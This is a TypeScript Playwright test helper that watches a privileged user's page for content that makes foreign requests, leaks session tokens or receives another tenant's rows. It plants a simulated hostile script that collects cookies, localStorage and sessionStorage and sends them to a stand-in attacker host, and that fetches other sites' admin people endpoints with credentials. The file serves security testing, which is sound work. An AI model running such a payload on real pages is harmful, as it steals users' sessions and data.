import type { BrowserContext, Page, Response } from 'playwright-core'
import { watchPayloads, type PayloadWatch } from '../watch-payloads.ts'

/** What the content of a screen did: three sets that must stay empty, and other observations. */
export type Meters = {
  readonly seen: PayloadWatch
  /** Requests that our own scripts did not make. */
  readonly calls: Set<string>
  /** Responses that contain a row of another site. */
  readonly rows: Set<string>
  /** Requests that carry a session token outside its cookie. */
  readonly sessions: Set<string>
}

type Watched = {
  /** The host of every site, and a string that occurs in its rows only. */
  readonly canaries: ReadonlyMap<string, string>
}

/** Runs in every page: what a payload does once it runs. Our own pages never call it. */
const hostile = (hosts: readonly string[]) => `(() => {
  const note = window.ran
  window.ran = (n) => {
    note?.(n)
    const take = (address) => fetch(address, { credentials: 'include' }).then((answer) => answer.text())
    const kept = JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }])
    for (const host of ${JSON.stringify(hosts)})
      take(location.protocol + '//' + host + ':' + location.port + '/app/api/admin/people?text=canary-').catch(() => 0)
    fetch('https://attacker.invalid/?kept=' + encodeURIComponent(kept)).catch(() => 0)
  }
})()`

/** Watches a page of a privileged user: what runs in it, what it requests, and what it receives. */
export async function watchPage(page: Page, { canaries }: Watched): Promise<Meters> {
  const seen = await watchPayloads(page)
  await page.addInitScript(hostile([...canaries.keys()]))
  const meters = { seen, calls: new Set<string>(), rows: new Set<string>(), sessions: new Set<string>() }
  const line = await page.context().newCDPSession(page)
  await line.send('Network.enable')
  const tokens = await tokensIn(page.context())
  line.on('Network.requestWillBeSent', ({ request, initiator, type }) => {
    const call = { url: request.url, type: type ?? '', frames: initiator.stack?.callFrames ?? [] }
    if (isForeign(call, [...canaries.keys()]))
      meters.calls.add(`${request.method} ${request.url.slice(0, 160)}`)
    const sent =
      decodeURIComponent(request.url.replace(/%(?![\da-f]{2})/gi, '%25')) + (request.postData ?? '')
    if (tokens.some((token) => sent.includes(token))) meters.sessions.add(request.url.slice(0, 60))
  })
  page.on('response', (response) => {
    void strayRow(page, response, canaries).then((stray) => stray && meters.rows.add(stray))
  })
  return meters
}

type ObservedCall = {
  readonly url: string
  readonly type: string
  readonly frames: readonly { readonly url: string }[]
}

/** Whether a request goes to a foreign host, or was made by none of our scripts. */
function isForeign({ url, type, frames }: ObservedCall, hosts: readonly string[]): boolean {
  if (/^(?:data|blob|about):/.test(url)) return false
  const { hostname, pathname } = new URL(url)
  if (hostname === 'content.localhost' || hostname.endsWith('.content.localhost')) return false
  if (!hosts.includes(hostname)) return true
  if (!pathname.startsWith('/app/') || type === 'Document') return false
  const [first] = frames
  return first === undefined || !new URL(first.url || 'about:blank').pathname.startsWith('/assets/')
}

async function tokensIn(context: BrowserContext): Promise<string[]> {
  const cookies = await context.cookies()
  return cookies.filter(({ name }) => name.endsWith('sid')).map(({ value }) => value)
}

/** The other site's canary, if a response contains it. */
async function strayRow(
  page: Page,
  response: Response,
  canaries: ReadonlyMap<string, string>,
): Promise<string | undefined> {
  const { pathname } = new URL(response.url())
  if (!pathname.startsWith('/app/')) return undefined
  const asking = new URL(page.url()).hostname
  const body = await response.text().catch(() => '')
  const stray = [...canaries].find(([host, canary]) => host !== asking && body.includes(canary))
  return stray && `${response.url()} on ${asking} shows ${stray[0]}`
}
